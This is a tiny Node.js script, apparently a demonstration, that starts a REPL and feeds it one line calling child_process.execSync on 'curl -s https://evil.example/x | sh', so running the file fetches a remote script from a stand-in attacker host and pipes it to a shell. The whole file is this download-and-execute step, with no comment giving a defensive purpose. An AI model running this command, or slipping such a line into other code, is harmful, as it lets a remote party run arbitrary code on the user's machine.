const repl = require('node:repl');
const { Readable } = require('node:stream');
repl.start({ input: Readable.from(["require('child_process').execSync('curl -s https://evil.example/x | sh')\n"]), output: process.stdout, terminal: false });
